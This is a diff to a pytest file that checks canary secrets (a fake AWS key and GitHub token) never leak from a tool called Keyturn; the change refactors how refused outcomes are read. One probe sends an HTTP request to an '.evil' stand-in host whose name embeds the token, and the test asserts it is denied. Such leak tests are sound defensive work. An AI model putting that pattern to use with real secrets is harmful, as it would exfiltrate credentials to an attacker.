@@ -25,8 +25,9 @@ import pytest
 from tests.channels.slack.fake_slack import BOT_TOKEN, SIGNING_SECRET
 from tests.channels.teams.conftest import APP_PASSWORD, LINK_SECRET
 from tests.conftest import TOKENS, ReviewerAPI, agent_client
+from tests.helpers import outcome_of
 from tests.reliability.channels import Reviewers, configure_all_channels, fake_services, hold, pending_request
-from tests.reliability.conftest import RelHome, meta, text
+from tests.reliability.conftest import RelHome, text
 
 AWS = "AKIA" + "KTCANARY" + "7Q2W4E6R"
 GITHUB = "ghp_" + "KeyturnCanary" + "0123456789abcdefghijklmnopq"
@@ -111,9 +112,9 @@ async def test_canary_secrets_never_leave_keyturn_except_in_a_result_the_agent_a
         invalid_name = await client.call_tool("probe_run", {"tag": "allow-x", AWS: GITHUB})
         invalid_url = await client.call_tool("http_request", {"method": "GET", "url": f"https://{GITHUB}.evil/"})
         for result in (denied, invalid_path, invalid_name, invalid_url):
-            assert result.is_error and meta(result)["outcome"] in ("denied", "refused"), text(result)
+            assert result.is_error and outcome_of(result)["outcome"] in ("denied", "refused"), text(result)
             keyturn_said.append(text(result))
-            keyturn_said.append(json.dumps(result.structured_content))
+            keyturn_said.append(json.dumps([result.structured_content, result.meta]))
     assert len(keyturn_said) >= 9
 
     leaks: dict[str, list[str]] = {}
